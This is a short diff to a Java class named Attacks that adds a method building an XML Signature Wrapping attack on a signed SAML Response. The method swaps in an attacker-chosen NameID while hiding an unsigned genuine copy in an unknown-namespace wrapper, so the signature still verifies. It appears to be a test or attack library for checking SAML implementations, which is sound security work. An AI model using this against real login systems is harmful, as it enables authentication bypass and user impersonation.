@@ -202,6 +202,32 @@ public final class Attacks {
     response.appendChild(wrapper);
   }
 
+  /**
+   * The wrapper variant on a Response signature: the Response gets a new ID (its Assertion a new ID
+   * and {@code evilNameId}) but keeps the genuine Signature; an unsigned copy of the genuine
+   * Response (original IDs) sits in an element of an unknown namespace at its end, so the Reference
+   * resolves to matching content and no ID occurs twice.
+   */
+  public static void xswResponseUnknownWrapper(Document doc, String evilNameId) {
+    Element response = doc.getDocumentElement();
+    Element copy = (Element) response.cloneNode(true);
+    copy.removeChild(Xml.children(copy, DSIG_NS, "Signature").get(0));
+    signatureOf(response, "the Response");
+    response.setAttributeNS(null, "ID", "_evil_response_ID");
+    for (Element a : Xml.children(response, ASSERTION_NS, "Assertion")) {
+      String id = newId();
+      a.setAttributeNS(null, "ID", id);
+      for (Element s : Xml.descendants(a, ASSERTION_NS, "AuthnStatement")) {
+        s.setAttributeNS(null, "SessionIndex", id);
+      }
+      replace(a, evilNameId);
+    }
+    Element wrapper = doc.createElementNS("urn:attacker:wrapper", "w:Wrapper");
+    wrapper.setAttributeNS(Xml.XMLNS, "xmlns:w", "urn:attacker:wrapper");
+    wrapper.appendChild(copy);
+    response.appendChild(wrapper);
+  }
+
   /** The Assertion's Signature is moved onto the Response (after its Issuer). */
   public static void moveAssertionSignatureToResponse(Document doc) {
     Element response = doc.getDocumentElement();
